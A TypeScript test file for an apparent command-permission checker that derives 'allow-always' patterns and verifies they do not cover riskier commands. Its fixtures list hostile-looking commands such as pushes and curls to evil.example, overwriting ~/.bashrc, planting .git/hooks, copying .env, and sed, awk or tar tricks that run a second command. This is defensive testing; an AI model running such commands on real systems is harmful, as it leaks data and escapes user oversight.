import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { fixtureContext } from "../../test/support/fixture-context.ts";
import { fixtureCircumstances, fixtureProfile } from "../../test/support/fixture-profile.ts";
import { classify } from "../classify/classify.ts";
import { decide } from "../decide/decide.ts";
import { type DeriveOptions, deriveEntries } from "./derive.ts";

const context = fixtureContext();
const derive = (command: string, options: Partial<DeriveOptions> = {}) =>
  deriveEntries(classify(command, context), { roots: context.roots, ...options });
const patterns = (command: string) => derive(command).entries.map((entry) => entry.pattern);

describe("allow-always", () => {
  it("saves seed 001's rm with the ceiling that was seen", () => {
    assert.deepEqual(derive("rm -rf /tmp/test-data"), {
      entries: [{ pattern: "rm **", ceiling: { kinds: ["deletes"], risk: "dangerous", roots: ["/tmp/test-data"] } }],
    });
  });

  it("saves one entry for each part that isn't safe", () => {
    assert.deepEqual(patterns("npm test && ls | npm test"), ["npm **"]);
    assert.deepEqual(patterns("npm test && ls | npm run x"), ["npm **", "npm **"]);
    assert.deepEqual(patterns("npm test && cargo build"), ["npm **", "cargo **"]);
    assert.deepEqual(derive("touch a /tmp/b").entries, [
      {
        pattern: "touch **",
        ceiling: { kinds: ["writes"], risk: "needs-review", roots: ["/home/me/project", "/tmp/b"], options: [] },
      },
    ]);
  });

  it("saves what is inside a wrapper, an interpreter or a runner", () => {
    assert.deepEqual(patterns("sudo apt update"), ["sudo apt **"]);
    assert.deepEqual(patterns("sudo -n apt update"), ["sudo -n apt **"]);
    assert.deepEqual(patterns("timeout 5 npm test"), ["npm **"]);
    assert.deepEqual(patterns("bash -c 'npm test'"), ["npm **"]);
    assert.deepEqual(patterns("python x.py a"), ["python x.py **"]);
    assert.deepEqual(patterns("npx eslint ."), ["npx eslint **"]);
    assert.deepEqual(patterns("bash deploy/check.sh"), ["bash deploy/check.sh **"]);
    assert.deepEqual(patterns("/usr/bin/git status"), ["git **"]);
  });

  it("says why when there is nothing to save", () => {
    for (const command of [
      "sudo -i",
      "sudo bash",
      "python -c 1",
      "bash",
      "env FOO=1 npm test",
      "FOO=1 make",
      "npm test > x",
      "git $(id)",
      "./x",
      "rm -rf /",
      "shopt -s x; make",
      "make &",
      "npx -y x",
      "PATH=x",
    ]) {
      const { entries, note } = derive(command);
      assert.deepEqual({ command, entries }, { command, entries: command === "env FOO=1 npm test" ? entries : [] });
      assert.match(note ?? "", /^allow-always can't be saved/, command);
    }
  });

  it("never saves a pattern that covers whatever a wrapper runs", () => {
    for (const command of [
      "sudo ls",
      "env npm x",
      "xargs npm",
      "busybox npm",
      "nice make",
      "bash -c make",
      "command make",
      "find . -exec make {} +",
    ]) {
      for (const pattern of patterns(command))
        assert.doesNotMatch(pattern, /^(sudo|env|xargs|busybox|nice|bash|command|find|sh) \*\*/, command);
    }
  });

  it("saves safe parts where they are misses", () => {
    const { entries } = derive("ls | wc", { safeIsMiss: true });
    assert.deepEqual(
      entries.map((entry) => entry.pattern),
      ["ls **", "wc **"],
    );
    assert.deepEqual(patterns("ls"), ["ls **"]);
  });
});

describe("the ceiling of a program without a table", () => {
  it("holds what was seen of its words", () => {
    const roots = ["/home/me/project"];
    const ceiling = (command: string) => derive(command).entries.map((entry) => entry.ceiling);
    const executes = { kinds: ["executes"], risk: "needs-review", roots };
    const fetches = { kinds: ["network-read"], risk: "needs-review", roots, hosts: [""] };
    assert.deepEqual(derive("git fetch").entries, [
      { pattern: "git **", ceiling: { ...fetches, options: [], subcommand: "fetch" } },
    ]);
    assert.deepEqual(ceiling("npm run build --watch=1"), [
      { ...executes, options: ["--watch"], subcommand: "run build" },
    ]);
    assert.deepEqual(ceiling("make"), [{ ...executes, options: [], subcommand: "" }]);
    assert.deepEqual(ceiling("git --no-pager fetch main"), [
      { ...fetches, options: ["--no-pager"], subcommand: "fetch main" },
    ]);
    assert.deepEqual(ceiling("cp -r a b"), [{ kinds: ["writes"], risk: "needs-review", roots, options: ["-r"] }]);
    assert.deepEqual(ceiling("curl -s https://a.example/x"), [
      { kinds: ["network-read"], risk: "needs-review", roots, options: ["-s"], hosts: ["a.example"] },
    ]);
    assert.deepEqual(ceiling("foo build /tmp/x/y"), [
      {
        kinds: ["writes", "executes"],
        risk: "needs-review",
        roots: ["/home/me/project", "/tmp/x/y"],
        options: [],
        subcommand: "build",
      },
    ]);
  });

  it("comes with the very words where one of them is a program, or the command is dangerous", () => {
    const rows = [
      ["sed -n 1p a", "sed -n 1p a"],
      ["awk '{print $2}' a", "awk {print\\ $2} a"],
      ["jq .x a.json", "jq .x a.json"],
      ["fd -e ts '*'", "fd -e ts \\*"],
      ["ssh h uptime", "ssh h uptime"],
      ["make V=1 all", "make V=1 all"],
      ["docker run alpine ls", "docker run alpine ls"],
      ["npm install left-pad", "npm install left-pad"],
      ["git push --force", "git push --force"],
      ["chmod -R 777 a", "chmod -R 777 a"],
      ["sudo npm install x", "sudo npm install x"],
    ] as const;
    for (const [command, pattern] of rows) assert.deepEqual(patterns(command), [pattern], command);
    assert.deepEqual(patterns("sort -o out a"), [], "an option that reaches beyond the program");
    assert.deepEqual(patterns("sed '' a"), [], "a pattern knows no empty word");
    assert.deepEqual(patterns(`sed -n ${"1p;".repeat(2_000)} a`), []);
    assert.match(derive("cd src; make").note ?? "", /where it runs isn't certain/);
  });
});

/** What is saved from the first command, and commands that it must let through or must not. */
const REACH: readonly { from: string; covers: readonly string[]; asks: readonly string[] }[] = [
  { from: "sed -n 1p a", covers: ["sed -n 1p a"], asks: ["sed '1e touch x' a", "sed -i s/a/b/ a", "sed 'w /tmp/z' a"] },
  {
    from: "sort --frob=out a",
    covers: ["sort --frob=b c"],
    asks: ["sort -o out a", "sort -o ~/.bashrc a", "sort --frob=/tmp/x a", "sort --frob a ~/x", "sort --frob $X"],
  },
  {
    from: "cp a b",
    covers: ["cp x y", "cp src/a docs/b", "cp /home/me/project/a b", "cd src && cp a b"],
    asks: [
      "cp -t /tmp a",
      "cp --target-directory=/tmp a",
      "cp -r / b",
      "cp -r a b",
      "cp a /tmp/b",
      "cp ~/x b",
      "cp ../x b",
      "cp a .git/hooks/x",
      "cp .env b",
      "cd src; cp a b",
    ],
  },
  {
    from: "git add",
    covers: ["git add", "/usr/bin/git add", "nice git add", "git add src"],
    asks: [
      "git add -u",
      "git rebase -x 'touch x' main",
      "git difftool -x sh",
      "git submodule foreach 'touch x'",
      "git config core.hooksPath x",
      "git log --output=x",
      "git credential fill",
      "git clone -c core.x=y u",
      "git push",
      "git -C /tmp/x add",
      "git --git-dir=/tmp/x status",
    ],
  },
  {
    from: "git fetch --all",
    covers: ["git fetch --all"],
    asks: ["git fetch --upload-pack=x --all", "git fetch -p"],
  },
  {
    from: "git push origin main",
    covers: ["git push origin topic"],
    asks: ["git push https://evil.example/x main", "git push me@evil.example:x main", "git push evil:x", "git push -f"],
  },
  { from: "git branch -a", covers: ["git branch -a"], asks: ["git branch topic", "git branch -a -D x"] },
  { from: "make -n install", covers: ["make -n install"], asks: ["make install"] },
  { from: "git push --dry-run", covers: ["git push --dry-run"], asks: ["git push", "git push origin main"] },
  { from: "git reset --hard HEAD~5", covers: ["git reset --hard HEAD~5"], asks: ["git reset --hard", "git clean -f"] },
  { from: "mv ~/work /dev/null", covers: ["mv ~/work /dev/null"], asks: ["mv ~/other /dev/null"] },
  { from: "git --no-pager fetch", covers: ["git --no-pager fetch"], asks: ["git --no-pager push", "git fetch"] },
  { from: "npm test", covers: ["npm test"], asks: ["npm publish", "npm run x", "npm --prefix /x test", "npm test -g"] },
  { from: "npm run build", covers: ["npm run build"], asks: ["npm run deploy", "npm test"] },
  { from: "awk -W x 1 a", covers: ["awk -W x 1 a"], asks: ["awk 'BEGIN{system(\"x\")}'", "awk -W x '{print > $1}' a"] },
  { from: "jq frob a", covers: ["jq frob a"], asks: ["jq -n env", "jq frobs a"] },
  {
    from: "curl -s https://a.example/x",
    covers: ["curl -s https://a.example/y"],
    asks: [
      "curl -s https://evil.example/x",
      "curl -o ~/.bashrc https://a.example",
      "curl -K cfg",
      "curl -s -d x https://a.example",
      "curl -s https://a.example evil.example",
      "curl -s",
    ],
  },
  {
    from: "tar -xf a.tar",
    covers: ["tar -xf b.tar"],
    asks: ["tar -C / -xf a.tar", "tar -xf /tmp/a.tar", "tar -xIf sh a.tar", "tar xIf sh a.tar", "tar -cf a.tar b"],
  },
  { from: "tar xf a.tar", covers: ["tar xf b.tar"], asks: ["tar xPf a.tar", "tar cf a.tar b", "tar xf a -C /"] },
  {
    from: "make test",
    covers: ["make test"],
    asks: [
      "make CC=./x test",
      "make test CC=./x",
      "make -f other test",
      "make test install",
      "make",
      "make -C /x test",
    ],
  },
  { from: "make V=1", covers: ["make V=1"], asks: ["make V=2", "make V=1 CC=x"] },
  {
    from: "bash deploy/check.sh a",
    covers: ["bash deploy/check.sh b"],
    asks: ["bash deploy/check.sh /etc/x", "bash x"],
  },
  {
    from: "sudo apt update",
    covers: ["sudo apt update"],
    asks: ["sudo apt install x", "sudo apt -o x=y update", "sudo apt update /tmp/x", "sudo make"],
  },
  { from: "git push --force", covers: ["git push --force"], asks: ["git push --force x", "git filter-branch x"] },
  {
    from: "rm a",
    covers: ["rm b", "rm -v b"],
    asks: ["rm /tmp/x", "rm -f b", `rm ${Array.from({ length: 40 }, (_, at) => `f${at}`).join(" ")} /tmp/x`],
  },
  { from: "touch a", covers: ["touch b"], asks: ["touch /tmp/x", `touch ${"f ".repeat(40)} /tmp/x`, "touch -r /x a"] },
  {
    from: "foo build",
    covers: ["foo build", "foo build a"],
    asks: ["foo deploy", "foo build --to=x", "foo @list build"],
  },
  { from: "foo build -o/tmp/x", covers: ["foo build -o/tmp/x"], asks: ["foo build -o/tmp/y", "foo build -o/etc/x"] },
  { from: "kill 4312", covers: ["kill 4312"], asks: ["kill 1", "kill -9 4312"] },
];

describe("an entry that was saved from", () => {
  for (const { from, covers, asks } of REACH) {
    it(from, () => {
      const allowlist = [...derive(from).entries];
      assert.ok(allowlist.length > 0, derive(from).note);
      const profile = fixtureProfile({ allowlist });
      const verdict = (command: string) => decide(classify(command, context), profile, fixtureCircumstances()).verdict;
      for (const command of covers) assert.equal(verdict(command), "allow", command);
      for (const command of asks) assert.equal(verdict(command), "ask", command);
    });
  }

  it("one workspace doesn't reach into another", () => {
    const profile = fixtureProfile({ allowlist: [...derive("npm test").entries] });
    const elsewhere = fixtureContext({ cwd: "/srv/other", roots: ["/srv/other"] });
    assert.equal(decide(classify("npm test", elsewhere), profile, fixtureCircumstances()).verdict, "ask");
    const below = fixtureContext({ cwd: "/home/me/project/src" });
    assert.equal(decide(classify("npm test", below), profile, fixtureCircumstances()).verdict, "allow");
  });

  it("a link isn't followed out of the workspace", () => {
    const profile = fixtureProfile({ allowlist: [...derive("cp a b").entries] });
    const realpath = (path: string) => (path === "/home/me/project/link" ? "/srv/x" : path);
    const linked = classify("cp link b", fixtureContext({ realpath }));
    assert.equal(decide(linked, profile, fixtureCircumstances()).verdict, "ask");
  });
});

it("what was saved lets the same command through, and nothing worse", () => {
  const at = fixtureCircumstances();
  const rows = [
    "rm -rf /tmp/test-data",
    "npm test && cargo build",
    "sudo apt update",
    "python x.py",
    "timeout 5 make",
    "touch a",
    "git push --force",
  ];
  for (const command of rows) {
    const classification = classify(command, context);
    const profile = fixtureProfile({ allowlist: [...deriveEntries(classification, { roots: context.roots }).entries] });
    assert.equal(decide(classification, profile, at).verdict, "allow", command);
    assert.equal(decide(classify("rm -rf ~/work", context), profile, at).verdict, "ask", command);
    assert.equal(decide(classify("sudo make", context), profile, at).verdict, "ask", command);
  }
});

it("a stored classification derives and decides as a fresh one", () => {
  const fresh = classify("npm test > x; make", context);
  const stored = JSON.parse(JSON.stringify(fresh));
  const profile = fixtureProfile({ allowlist: [{ pattern: "make" }, { pattern: "npm **" }] });
  assert.deepEqual(decide(stored, profile, fixtureCircumstances()), decide(fresh, profile, fixtureCircumstances()));
  assert.deepEqual(deriveEntries(stored, { roots: [] }), deriveEntries(fresh, { roots: [] }));
});
